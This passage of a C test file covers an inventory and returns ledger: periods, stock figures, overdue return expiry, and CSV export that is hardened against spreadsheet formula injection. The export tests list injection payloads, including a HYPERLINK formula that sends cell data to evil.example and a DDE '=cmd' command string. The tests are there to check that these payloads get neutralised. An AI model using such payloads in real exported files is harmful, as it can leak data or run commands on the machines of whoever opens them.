  g_assert_cmpint (since_us, ==, utc_us (2026, 10, 19, 22, 0, 0));

  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_THIS_YEAR, f->tz, today_noon (f), &since_us, &until_us);
  g_assert_cmpint (since_us, ==, utc_us (2025, 12, 31, 23, 0, 0));

  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_ALL_TIME, f->tz, today_noon (f), &since_us, &until_us);
  g_assert_cmpint (since_us, ==, 0);
  g_assert_cmpint (until_us, ==, 0);

  /* At 00:30 on the 1st in Amsterdam it is still the 31st in UTC: the
   * month is the shop's. */
  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_THIS_MONTH, f->tz,
                                     local_us (f, 2026, 11, 1, 0, 30, 0), &since_us, &until_us);
  g_assert_cmpint (since_us, ==, utc_us (2026, 10, 31, 23, 0, 0));

  g_assert_cmpint (retour_inventory_overdue_before (f->tz, today_noon (f)), ==, utc_us (2026, 11, 17, 23, 0, 0));
  g_assert_cmpfloat (retour_inventory_return_rate (1, 4), ==, 0.25);
  g_assert_cmpfloat (retour_inventory_return_rate (3, 0), <, 0.0);
}

static void
test_figures (Fixture       *f,
              gconstpointer  data)
{
  g_auto(Shop) shop = { 0 };
  g_autoptr(RetourInventory) month = NULL;
  g_autoptr(RetourInventory) all = NULL;
  g_autoptr(GError) error = NULL;
  const RetourProductInventory *tee, *mug;
  gint64 since_us, until_us;

  build_shop (f, &shop);

  retour_inventory_period_get_range (RETOUR_INVENTORY_PERIOD_THIS_MONTH, f->tz, today_noon (f), &since_us, &until_us);
  month = retour_inventory_store_load (f->db, since_us, until_us, f->tz, today_noon (f), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (month->products->len, ==, 2);
  /* By title. */
  g_assert_cmpstr (((RetourProductInventory *) month->products->pdata[0])->title, ==, "Mug");

  tee = find_product (month, shop.tee->id);
  mug = find_product (month, shop.mug->id);

  /* Now. */
  g_assert_cmpint (tee->on_hand, ==, 22);            /* 20 + 2 restocked */
  g_assert_cmpint (tee->held, ==, 0);
  g_assert_cmpint (tee->expected_back, ==, 1 + 3 + 1);  /* overdue, due today, in transit */
  g_assert_cmpint (tee->awaiting_inspection, ==, 1);    /* r3 */
  g_assert_cmpint (mug->on_hand, ==, 11);            /* 10 + 1 repaired */
  g_assert_cmpint (mug->held, ==, 0);
  g_assert_cmpint (mug->written_off, ==, 2);
  g_assert_cmpint (mug->expected_back, ==, 1);
  g_assert_cmpint (mug->awaiting_inspection, ==, 0);

  /* This month. r3 was received at midnight on the 1st: it counts. */
  g_assert_cmpint (tee->came_back, ==, 2 + 1);
  g_assert_cmpint (tee->restocked, ==, 2);
  g_assert_cmpint (tee->held_in, ==, 0);
  g_assert_cmpint (tee->written_off_in, ==, 0);
  /* Order 1001 was placed a second before the month, 1003 cancelled. */
  g_assert_cmpint (tee->sold, ==, 2 + 3);
  /* r1 (2), the overdue one (1), due today (3), in transit (1); r3 was
   * asked for last month. */
  g_assert_cmpint (tee->returned, ==, 2 + 1 + 3 + 1);
  g_assert_cmpint (tee->n_top_reasons, ==, 2);
  g_assert_cmpint (tee->top_reasons[0].reason_id, ==, reason_id (f, 0));
  g_assert_cmpint (tee->top_reasons[0].units, ==, 6);
  g_assert_cmpstr (tee->top_reasons[0].label, ==, ((RetourReason *) f->reasons->pdata[0])->label);
  g_assert_cmpint (tee->top_reasons[1].reason_id, ==, reason_id (f, 1));
  g_assert_cmpint (tee->top_reasons[1].units, ==, 1);

  g_assert_cmpint (mug->came_back, ==, 1 + 2);
  g_assert_cmpint (mug->restocked, ==, 1);           /* the repair */
  g_assert_cmpint (mug->held_in, ==, 1);
  g_assert_cmpint (mug->written_off_in, ==, 2);
  g_assert_cmpint (mug->sold, ==, 1 + 6);
  /* The cancelled r4 is not counted. */
  g_assert_cmpint (mug->returned, ==, 1 + 1 + 2);
  g_assert_cmpint (mug->n_top_reasons, ==, 2);
  g_assert_cmpint (mug->top_reasons[0].reason_id, ==, reason_id (f, 2));
  g_assert_cmpint (mug->top_reasons[0].units, ==, 3);

  /* The shop: "what came back this month, what went back on the shelf,
   * what is still out there". */
  g_assert_cmpint (month->summary.came_back, ==, 6);
  g_assert_cmpint (month->summary.restocked, ==, 3);
  g_assert_cmpint (month->summary.held_in, ==, 1);
  g_assert_cmpint (month->summary.written_off_in, ==, 2);
  g_assert_cmpint (month->summary.expected_back, ==, 6);
  g_assert_cmpuint (month->summary.expected_rmas, ==, 3);
  g_assert_cmpuint (month->summary.overdue_rmas, ==, 2);
  g_assert_cmpint (month->summary.overdue_units, ==, 3);
  g_assert_cmpint (month->summary.awaiting_inspection, ==, 1);
  g_assert_cmpint (month->summary.sold, ==, 12);
  g_assert_cmpint (month->summary.returned, ==, 11);
  g_assert_cmpint (month->summary.on_hand, ==, 33);
  g_assert_cmpint (month->summary.written_off, ==, 2);

  /* All time adds what happened before the month. */
  all = retour_inventory_store_load (f->db, 0, 0, f->tz, today_noon (f), &error);
  g_assert_no_error (error);
  tee = find_product (all, shop.tee->id);
  g_assert_cmpint (tee->sold, ==, 4 + 2 + 3);
  g_assert_cmpint (tee->returned, ==, 7 + 1);
  g_assert_cmpint (tee->came_back, ==, 3);
  /* The initial stock is not a restock. */
  g_assert_cmpint (tee->restocked, ==, 2);

  /* A period that ends: the first of November only. */
  {
    g_autoptr(RetourInventory) day = retour_inventory_store_load (f->db, local_us (f, 2026, 11, 1, 0, 0, 0),
                                                                  local_us (f, 2026, 11, 2, 0, 0, 0),
                                                                  f->tz, today_noon (f), &error);

    g_assert_no_error (error);
    g_assert_cmpint (find_product (day, shop.tee->id)->sold, ==, 2);
    g_assert_cmpint (find_product (day, shop.tee->id)->came_back, ==, 1);
    g_assert_cmpint (find_product (day, shop.tee->id)->returned, ==, 0);
    g_assert_cmpint (day->summary.restocked, ==, 0);
  }
}

static void
test_find_products (Fixture       *f,
                    gconstpointer  data)
{
  g_autoptr(RetourProduct) jas = add_product (f, "JAS-ZW-M", "Jas, zwart — M", 0);
  g_autoptr(RetourProduct) lodz = add_product (f, "TSH-LDZ", "Koszulka Łódź", 0);
  g_autoptr(GArray) found = NULL;
  g_autoptr(GError) error = NULL;

  found = retour_inventory_store_find_products (f->db, "zwart jas", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (found->len, ==, 1);
  g_assert_cmpint (g_array_index (found, gint64, 0), ==, jas->id);
  g_array_unref (found);

  found = retour_inventory_store_find_products (f->db, "lodz", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (found->len, ==, 1);
  g_assert_cmpint (g_array_index (found, gint64, 0), ==, lodz->id);
  g_array_unref (found);

  found = retour_inventory_store_find_products (f->db, "tsh-l", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (found->len, ==, 1);
  g_array_unref (found);

  found = retour_inventory_store_find_products (f->db, "", &error);
  g_assert_no_error (error);
  g_assert_cmpuint (found->len, ==, 2);
}

static void
test_expected_and_expire (Fixture       *f,
                          gconstpointer  data)
{
  g_auto(Shop) shop = { 0 };
  g_autoptr(GPtrArray) expected = NULL;
  g_autoptr(GPtrArray) events = NULL;
  g_autoptr(RetourRma) expired = NULL;
  g_autoptr(RetourRma) kept = NULL;
  g_autoptr(GError) error = NULL;
  const RetourExpectedArrival *first;
  const RetourRmaEvent *last;
  guint n_expired = 0;

  build_shop (f, &shop);

  /* The longest overdue first. */
  expected = retour_inventory_store_list_expected (f->db, f->tz, today_noon (f), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (expected->len, ==, 3);
  first = g_ptr_array_index (expected, 0);
  g_assert_cmpint (first->rma_id, ==, shop.in_transit_overdue->id);
  g_assert_true (first->overdue);
  g_assert_cmpint (first->status, ==, RETOUR_RMA_STATUS_IN_TRANSIT);
  g_assert_cmpstr (first->customer_name, ==, "Noor Bakker");
  g_assert_cmpstr (first->order_number, ==, "1005");
  g_assert_cmpstr (first->number, ==, shop.in_transit_overdue->number);
  g_assert_cmpint (first->units, ==, 1);
  /* Due at 23:59:59 yesterday: overdue today. */
  g_assert_cmpint (((RetourExpectedArrival *) expected->pdata[1])->rma_id, ==, shop.overdue->id);
  g_assert_true (((RetourExpectedArrival *) expected->pdata[1])->overdue);
  g_assert_cmpint (((RetourExpectedArrival *) expected->pdata[1])->units, ==, 2);
  /* Due at midnight today: not yet. */
  g_assert_cmpint (((RetourExpectedArrival *) expected->pdata[2])->rma_id, ==, shop.due_today->id);
  g_assert_false (((RetourExpectedArrival *) expected->pdata[2])->overdue);

  retour_inventory_store_expire_overdue (f->db, f->tz, today_noon (f), "Sanne", &n_expired, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (n_expired, ==, 2);

  expired = retour_rma_store_load (f->db, shop.overdue->id, &error);
  g_assert_no_error (error);
  g_assert_cmpint (expired->status, ==, RETOUR_RMA_STATUS_EXPIRED);
  g_assert_cmpint (expired->closed_us, ==, today_noon (f));
  events = retour_rma_store_list_events (f->db, expired->id, &error);
  g_assert_no_error (error);
  last = g_ptr_array_index (events, events->len - 1);
  g_assert_cmpstr (last->kind, ==, "status");
  g_assert_cmpint (last->from_status, ==, RETOUR_RMA_STATUS_AUTHORIZED);
  g_assert_cmpint (last->to_status, ==, RETOUR_RMA_STATUS_EXPIRED);
  g_assert_cmpstr (last->actor, ==, "Sanne");
  g_assert_cmpstr (last->detail, ==, "Not received by its due date");

  kept = retour_rma_store_load (f->db, shop.due_today->id, &error);
  g_assert_no_error (error);
  g_assert_cmpint (kept->status, ==, RETOUR_RMA_STATUS_AUTHORIZED);
  g_assert_cmpint (retour_test_db_query_int (f->db, "SELECT count (*) FROM rma WHERE status = 'expired'", 0), ==, 2);

  /* Nothing left to expire; tomorrow the one due today is overdue. */
  retour_inventory_store_expire_overdue (f->db, f->tz, today_noon (f), "Sanne", &n_expired, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (n_expired, ==, 0);
  retour_inventory_store_expire_overdue (f->db, f->tz, local_us (f, 2026, 11, 19, 0, 0, 0), "Sanne",
                                         &n_expired, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (n_expired, ==, 1);

  assert_check_passes (f);
}

/* The export ------------------------------------------------------------------- */

static char *
export_stock (Fixture *f)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GError) error = NULL;

  retour_export_stock_csv (f->db, out, f->tz, NULL, &error);
  g_assert_no_error (error);
  g_output_stream_write_all (out, "", 1, NULL, NULL, &error);   /* NUL */
  g_output_stream_close (out, NULL, &error);
  g_assert_no_error (error);

  return g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
}

static void
test_export_csv (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(RetourProduct) hostile = add_product (f, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")",
                                                  "Mug \"Big\", 0,5 l\nblue", 0);
  g_autoptr(RetourProduct) plus = add_product (f, "+1", "@SUM(A1:A9)", 0);
  g_autoptr(RetourOrder) order = add_order (f, "2001", utc_us (2026, 7, 1, 8, 0, 0), FALSE, plus, 2, NULL);
  g_autoptr(RetourRma) rma = request (f, order, utc_us (2026, 7, 2, 8, 0, 0), 0, 1, 0);
  g_autoptr(GError) error = NULL;
  g_autofree char *csv = NULL;
  g_auto(GStrv) rows = NULL;
  RetourStockMovement movement = { 0 };
  g_autofree char *expected_return = NULL;

  movement.product_id = hostile->id;
  movement.delta = 5;
  movement.cause = RETOUR_STOCK_CAUSE_INITIAL;
  movement.created_us = utc_us (2026, 7, 1, 10, 0, 0);   /* summer: +02:00 */
  movement.actor = (char *) "-Anouk";
  movement.note = (char *) "=1+2";
  retour_stock_store_add_movement (f->db, &movement, &error);
  g_assert_no_error (error);

  retour_stock_store_correct (f->db, hostile->id, RETOUR_STOCK_BUCKET_ON_HAND, -2, "Sanne",
                              "-2 found broken; see \"shelf B\"\r\nand\tcount again", utc_us (2026, 12, 1, 10, 0, 0),
                              &error);
  g_assert_no_error (error);

  authorize (f, rma, utc_us (2026, 7, 2, 9, 0, 0), 0);
  receive (f, rma, utc_us (2026, 7, 3, 9, 0, 0));
  inspect (f, rma, utc_us (2026, 7, 3, 10, 30, 15), RETOUR_DISPOSITION_SCRAP);

  csv = export_stock (f);
  g_assert_true (g_utf8_validate (csv, -1, NULL));
  g_assert_true (g_str_has_suffix (csv, "\r\n"));

  /* Rows end in CRLF; a CRLF inside quotes belongs to its cell. */
  rows = g_strsplit (csv, "\r\n", -1);
  g_assert_cmpstr (rows[0], ==, "date,sku,product,bucket,change,cause,rma_number,actor,note");

  /* Formulas neutralized with an apostrophe, quotes doubled, commas and
   * line breaks kept inside quotes, the time in the shop's zone. */
  g_assert_cmpstr (rows[1], ==,
                   "2026-07-01T12:00:00+02:00,"
                   "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik\"\")\","
                   "\"Mug \"\"Big\"\", 0,5 l\nblue\","
                   "on-hand,5,initial,,'-Anouk,'=1+2");
  /* A negative change stays a plain number; the note's own CRLF and tab
   * stay inside its quotes. */
  g_assert_cmpstr (rows[2], ==,
                   "2026-12-01T11:00:00+01:00,"
                   "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Klik\"\")\","
                   "\"Mug \"\"Big\"\", 0,5 l\nblue\","
                   "on-hand,-2,correction,,Sanne,\"'-2 found broken; see \"\"shelf B\"\"");
  g_assert_cmpstr (rows[3], ==, "and\tcount again\"");
  expected_return = g_strdup_printf ("2026-07-03T12:30:15+02:00,'+1,'@SUM(A1:A9),written-off,1,write-off,%s,test,",
                                     rma->number);
  g_assert_cmpstr (rows[4], ==, expected_return);
  g_assert_cmpstr (rows[5], ==, "");
  g_assert_null (rows[6]);

  retour_test_csv_assert_no_formulas (csv);
}

/* Text from a storefront or a person, the way an attacker would write it
 * for a spreadsheet that splits on semicolons (Excel in nl, fr, de, pl),
 * on commas or on tabs. */
static const char * const hostile_texts[] = {
  "Scarf;=cmd|' /C calc'!A0",
  "Scarf,=cmd|' /C calc'!A0",
  "Scarf\t=cmd|' /C calc'!A0",
  "Mug;+1;-2;@SUM(A1:A9)",
  "a;;=1,,=2",
  "x;\"=HYPERLINK(\"http://evil.example\")",
  "x;\"\"=1+2",
  "x,\"\"\"=1+2",
  "two lines\n=1+2",
  "two lines\r\n=1+2",
  "carriage\r=1+2",
  "x;\t=1",
  "x;\r=1",
  "\"=1",
  "\uFF1D1+2",
  "x;\uFF0B1",
  "x,\uFF0D1",
  "x\n\uFF20A1",
  "=1;=2,=3\t=4\n=5",
  "-",
  "x;-",
};

static void
test_export_hostile (Fixture       *f,
                     gconstpointer  data)
{
  g_autofree char *csv = NULL;
  g_autoptr(GPtrArray) rows = NULL;
  g_autoptr(GError) error = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (hostile_texts); i++)
    {
      const char *text = hostile_texts[i];
      g_autofree char *sku = g_strdup_printf ("%s#%u", text, i);
      g_autoptr(RetourProduct) product = add_product (f, sku, text, 0);
      RetourStockMovement movement = { 0 };

      movement.product_id = product->id;
      movement.delta = -1 - (gint64) i;
      movement.cause = RETOUR_STOCK_CAUSE_INITIAL;
      movement.created_us = utc_us (2026, 7, 1, 10, 0, i);
      movement.actor = (char *) text;
      movement.note = (char *) text;
      retour_stock_store_add_movement (f->db, &movement, &error);
      g_assert_no_error (error);
    }

  csv = export_stock (f);
  retour_test_csv_assert_no_formulas (csv);

  /* Read as written, every cell is still there, numbers stay numbers, and
   * the text is whole but for the apostrophes. */
  rows = retour_test_csv_read (csv, ',');
  g_assert_cmpuint (rows->len, ==, G_N_ELEMENTS (hostile_texts) + 1);
  for (guint i = 0; i < G_N_ELEMENTS (hostile_texts); i++)
    {
      char **cells = g_ptr_array_index (rows, i + 1);
      g_autofree char *change = g_strdup_printf ("%d", -1 - (int) i);

      g_assert_cmpuint (g_strv_length (cells), ==, 9);
      g_assert_cmpstr (cells[4], ==, change);
      for (guint c = 2; c < 9; c += 6)
        {
          g_autoptr(GString) unquoted = g_string_new (cells[c]);

          g_string_replace (unquoted, "'", "", 0);
          {
            g_autoptr(GString) expected = g_string_new (hostile_texts[i]);

            g_string_replace (expected, "'", "", 0);
            g_assert_cmpstr (unquoted->str, ==, expected->str);
          }
        }
    }
}

static void
test_csv_cells (void)
{
  g_autoptr(GString) csv = g_string_new (NULL);

  retour_csv_append_text (csv, NULL);
  retour_csv_append_text (csv, "");
  retour_csv_append_text (csv, "\tTab");
  retour_csv_append_text (csv, "\rCR");
  retour_csv_append_text (csv, "a=b");
  retour_csv_append_number (csv, -7);
  retour_csv_append_text (csv, "bad \xff byte");
  retour_csv_end_row (csv);
  g_assert_cmpstr (csv->str, ==, ",,'\tTab,\"'\rCR\",a=b,-7,bad \xef\xbf\xbd byte\r\n");
}

static char *
one_cell (const char *text)
{
  g_autoptr(GString) csv = g_string_new (NULL);

  retour_csv_append_text (csv, text);
  g_string_truncate (csv, csv->len - 1);   /* the separator */

  return g_string_free (g_steal_pointer (&csv), FALSE);
}

/* A semicolon is quoted like a comma; a formula is neutralized wherever a
 * reader that splits on the other separator, on tabs, or that is outside
 * the quotes when a line ends would start a cell. */
static void
test_csv_cells_parts (void)
{
  static const struct
  {
    const char *text;
    const char *cell;
  } cases[] = {
    { "a;b", "\"a;b\"" },
    { "Scarf;=cmd|' /C calc'!A0", "\"Scarf;'=cmd|' /C calc'!A0\"" },
    { "a,+1", "\"a,'+1\"" },
    { "a, -1", "\"a, -1\"" },
    { "x;\"=1", "\"x;\"\"'=1\"" },
    { "note\n-1", "\"note\n'-1\"" },
    { "note\r\n@A1", "\"note\r\n'@A1\"" },
    { "x\t=1", "x\t'=1" },
    { "\xef\xbc\x9d" "1", "'\xef\xbc\x9d" "1" },
    { "x;\xef\xbc\xa0" "A1", "\"x;'\xef\xbc\xa0" "A1\"" },
    { "a=b;c-d", "\"a=b;c-d\"" },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autofree char *cell = one_cell (cases[i].text);

      g_assert_cmpstr (cell, ==, cases[i].cell);
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

#define ADD(path, func) \
  g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)

  ADD ("/inventory/ledger/invariants", test_ledger_invariants);
  ADD ("/inventory/ledger/dispositions", test_dispositions);
  ADD ("/inventory/ledger/finish-and-correct", test_finish_and_correct);
  ADD ("/inventory/ledger/check-finds-bucket-mismatch", test_check_finds_bucket_mismatch);
  ADD ("/inventory/periods", test_periods);
  ADD ("/inventory/figures", test_figures);
  ADD ("/inventory/find-products", test_find_products);
  ADD ("/inventory/expected-and-expire", test_expected_and_expire);
  ADD ("/inventory/export/csv", test_export_csv);
  ADD ("/inventory/export/hostile", test_export_hostile);
  g_test_add_func ("/inventory/export/cells", test_csv_cells);
  g_test_add_func ("/inventory/export/cells-parts", test_csv_cells_parts);

  return g_test_run ();
}
